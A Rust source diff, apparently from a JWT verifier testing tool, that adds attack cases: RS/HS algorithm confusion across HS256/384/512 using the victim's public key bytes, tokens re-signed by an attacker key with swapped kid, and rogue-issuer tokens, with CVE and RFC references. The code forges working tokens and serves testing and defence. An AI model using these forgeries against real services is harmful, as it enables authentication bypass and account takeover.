@@ -111,6 +111,57 @@ impl PublicKeyForm {
     ];
 }
 
+/// The SHA-2 hash of an HMAC JWS algorithm (RFC 7518 §3.2): a verifier confused about the
+/// key type may take any of them, so the key-confusion stimuli come in each.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HmacHash {
+    /// HS256.
+    Sha256,
+    /// HS384.
+    Sha384,
+    /// HS512.
+    Sha512,
+}
+
+impl HmacHash {
+    /// Every hash, in a stable order.
+    pub const ALL: [HmacHash; 3] = [HmacHash::Sha256, HmacHash::Sha384, HmacHash::Sha512];
+
+    /// The `alg` value: `HS256`, `HS384`, `HS512`.
+    pub fn alg(self) -> &'static str {
+        match self {
+            HmacHash::Sha256 => "HS256",
+            HmacHash::Sha384 => "HS384",
+            HmacHash::Sha512 => "HS512",
+        }
+    }
+
+    /// Exact, case-sensitive lookup of an `alg` value.
+    pub fn from_alg(alg: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|h| h.alg() == alg)
+    }
+
+    fn algorithm(self) -> aws_lc_rs::hmac::Algorithm {
+        match self {
+            HmacHash::Sha256 => aws_lc_rs::hmac::HMAC_SHA256,
+            HmacHash::Sha384 => aws_lc_rs::hmac::HMAC_SHA384,
+            HmacHash::Sha512 => aws_lc_rs::hmac::HMAC_SHA512,
+        }
+    }
+
+    /// The MAC of `input` under `secret`.
+    pub fn mac(self, secret: &[u8], input: &[u8]) -> Vec<u8> {
+        let key = aws_lc_rs::hmac::Key::new(self.algorithm(), secret);
+        aws_lc_rs::hmac::sign(&key, input).as_ref().to_vec()
+    }
+
+    /// Whether `tag` is the MAC of `input` under `secret` (constant time).
+    pub fn verify(self, secret: &[u8], input: &[u8], tag: &[u8]) -> bool {
+        let key = aws_lc_rs::hmac::Key::new(self.algorithm(), secret);
+        aws_lc_rs::hmac::verify(&key, input, tag).is_ok()
+    }
+}
+
 /// Which ECDSA scalar an out-of-range forgery breaks, and how.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum ScalarDefect {
@@ -175,8 +226,8 @@ pub enum Attack {
     SignatureStripped,
     /// The last 4 signature characters changed.
     SignatureBroken,
-    /// `alg: HS256`, MACed with the victim's public key bytes.
-    HmacWithPublicKey(PublicKeyForm),
+    /// `alg` HS256, HS384 or HS512, MACed with the victim's public key bytes.
+    HmacWithPublicKey { form: PublicKeyForm, hash: HmacHash },
     /// `alg: HS256` with an empty secret.
     HmacEmptySecret,
     /// `alg: HS256` with a guessable secret.
@@ -207,6 +258,13 @@ pub enum Attack {
     /// with its kid: a verifier that allow-lists `jku` must still verify with its own keys.
     /// Parametrized, so not in [`Attack::catalogue`].
     JkuAt(String),
+    /// `V`'s claims re-signed by the attacker key under its `alg`; `kid` that of the attacker
+    /// key (which the target does not know) or the victim's (the key it names does not verify).
+    Resigned { keep_victim_kid: bool },
+    /// `V`'s claims with `iss` = the given issuer (one the tool hosts, publishing the attacker
+    /// key), signed by the attacker key with its kid. Parametrized, so not in
+    /// [`Attack::catalogue`].
+    RogueIssuer(String),
     /// Header `x5c` = a self-signed certificate for the attacker key ([`cert::self_signed`]),
     /// signed by it with its kid.
     X5c,
@@ -275,7 +333,9 @@ impl Attack {
             }
         }
         all.extend([Attack::SignatureStripped, Attack::SignatureBroken]);
-        all.extend(PublicKeyForm::ALL.map(Attack::HmacWithPublicKey));
+        for hash in HmacHash::ALL {
+            all.extend(PublicKeyForm::ALL.map(|form| Attack::HmacWithPublicKey { form, hash }));
+        }
         all.push(Attack::HmacEmptySecret);
         all.extend(WEAK_SECRETS.map(Attack::HmacWeakSecret));
         all.extend([
@@ -301,6 +361,12 @@ impl Attack {
                 keep_victim_kid: false,
             },
             Attack::EmbeddedJwk {
+                keep_victim_kid: true,
+            },
+            Attack::Resigned {
+                keep_victim_kid: false,
+            },
+            Attack::Resigned {
                 keep_victim_kid: true,
             },
             Attack::Jku,
@@ -367,7 +433,9 @@ impl Attack {
             ),
             Attack::SignatureStripped => "signature-stripped".into(),
             Attack::SignatureBroken => "signature-broken".into(),
-            Attack::HmacWithPublicKey(form) => format!("hs256-public-key-{form:?}"),
+            Attack::HmacWithPublicKey { form, hash } => {
+                format!("{}-public-key-{form:?}", hash.alg().to_ascii_lowercase())
+            }
             Attack::HmacEmptySecret => "hs256-empty-secret".into(),
             Attack::HmacWeakSecret(s) => format!("hs256-weak-secret-{s}"),
             Attack::HmacSecret(s) => format!("hs256-secret-{}", String::from_utf8_lossy(s)),
@@ -388,6 +456,15 @@ impl Attack {
                     "-no-kid"
                 }
             ),
+            Attack::Resigned { keep_victim_kid } => format!(
+                "resigned{}",
+                if *keep_victim_kid {
+                    "-victim-kid"
+                } else {
+                    "-attacker-kid"
+                }
+            ),
+            Attack::RogueIssuer(iss) => format!("rogue-issuer-{iss}"),
             Attack::Jku => "jku".into(),
             Attack::X5u => "x5u".into(),
             Attack::JkuAt(url) => format!("jku-at-{url}"),
@@ -427,7 +504,7 @@ impl Attack {
                 "jwt_tool -X n",
             ),
             Attack::SignatureBroken => p(&[], "signature not checked", "jwt_tool playbook"),
-            Attack::HmacWithPublicKey(_) | Attack::KidWithHmac => p(
+            Attack::HmacWithPublicKey { .. } | Attack::KidWithHmac => p(
                 &["CVE-2016-10555"],
                 "algorithm confusion (RS/HS)",
                 "jwt_tool -X k",
@@ -459,6 +536,8 @@ impl Attack {
                 p(&[], "header key URL trusted (SSRF)", "jwt_tool -X s")
             }
             Attack::X5c => p(&[], "header certificate trusted", "RFC 7515 §4.1.6"),
+            Attack::Resigned { .. } => p(&[], "issuer/key mix-up", "RFC 8725 §3.8"),
+            Attack::RogueIssuer(_) => p(&[], "untrusted issuer accepted", "RFC 9068 §4"),
             Attack::KidInjection { .. } => p(&[], "kid injection", "jwt_tool playbook"),
             Attack::Crit(_) => p(&[], "crit not enforced", "RFC 7515 §4.1.11"),
             Attack::KidWithOtherKeyType | Attack::RsaFamilySwitch | Attack::ForeignKid(_) => {
@@ -493,9 +572,10 @@ impl Attack {
             ),
             Attack::SignatureStripped => "header.payload. with the original alg kept".into(),
             Attack::SignatureBroken => "last 4 signature characters changed".into(),
-            Attack::HmacWithPublicKey(form) => {
-                format!("alg HS256, MACed with the AS public key as {form:?} bytes")
-            }
+            Attack::HmacWithPublicKey { form, hash } => format!(
+                "alg {}, MACed with the AS public key as {form:?} bytes",
+                hash.alg()
+            ),
             Attack::HmacEmptySecret => "alg HS256, MACed with an empty secret".into(),
             Attack::HmacWeakSecret(s) => format!("alg HS256, MACed with the secret {s:?}"),
             Attack::HmacSecret(s) => format!(
@@ -517,6 +597,18 @@ impl Attack {
                 } else {
                     "removed"
                 }
+            ),
+            Attack::Resigned { keep_victim_kid } => format!(
+                "V's claims re-signed by the attacker key, kid {}",
+                if *keep_victim_kid {
+                    "of the victim"
+                } else {
+                    "of the attacker key"
+                }
+            ),
+            Attack::RogueIssuer(iss) => format!(
+                "V's claims with iss {iss:?} (an issuer publishing the attacker key), signed by \
+                 that key"
             ),
             Attack::Jku => "header jku = listener URL, signed by the attacker key".into(),
             Attack::X5u => "header x5u = listener URL, signed by the attacker key".into(),
@@ -603,15 +695,18 @@ impl Attack {
                 .kid
                 .ok_or_else(|| self.not_applicable("needs a victim key with a kid"))
         };
-        // HS256 over V's claims with `secret`, under the victim's kid when it has one.
-        let hmac = |secret: &[u8]| {
+        // HMAC over V's claims with `secret`, under the victim's kid when it has one.
+        let hmac_with = |hash: HmacHash, secret: &[u8]| {
             let key = SigningKey::hmac(secret);
             let key = match victim.kid {
                 Some(kid) => key.with_kid(kid),
                 None => key,
             };
-            spec.clone().alg("HS256").mint(&key)
+            let unsigned = spec.clone().alg(hash.alg()).unsigned(&key);
+            let mac = hash.mac(secret, unsigned.trim_end_matches('.').as_bytes());
+            tamper(&unsigned, &Tamper::SetSignature(mac))
         };
+        let hmac = |secret: &[u8]| hmac_with(HmacHash::Sha256, secret);
         // The valid token's header with `alg` replaced in place.
         let header_with_alg = |alg: &str| {
             let mut header = victim.header.clone();
@@ -632,11 +727,11 @@ impl Attack {
             }
             Attack::SignatureStripped => tamper(&valid(), &Tamper::StripSignature),
             Attack::SignatureBroken => tamper(&valid(), &Tamper::BreakSignature),
-            Attack::HmacWithPublicKey(form) => {
+            Attack::HmacWithPublicKey { form, hash } => {
                 let secret = public_jwk_bytes(public_jwk()?, *form).ok_or_else(|| {
                     self.not_applicable("this byte form does not exist for the key type")
                 })?;
-                hmac(&secret)
+                hmac_with(*hash, &secret)
             }
             Attack::HmacEmptySecret => hmac(b""),
             Attack::HmacWeakSecret(secret) => hmac(secret.as_bytes()),
@@ -697,6 +792,14 @@ impl Attack {
                 };
                 spec.mint(attacker)
             }
+            Attack::Resigned { keep_victim_kid } => {
+                if *keep_victim_kid {
+                    spec.clone().kid(victim_kid()?).mint(attacker)
+                } else {
+                    spec.mint(attacker)
+                }
+            }
+            Attack::RogueIssuer(iss) => spec.clone().iss(iss).mint(attacker),
             Attack::Jku => spec.clone().jku(listener_url).mint(attacker),
             Attack::X5u => spec.clone().x5u(listener_url).mint(attacker),
             Attack::JkuAt(url) => spec.clone().jku(url).mint(attacker),
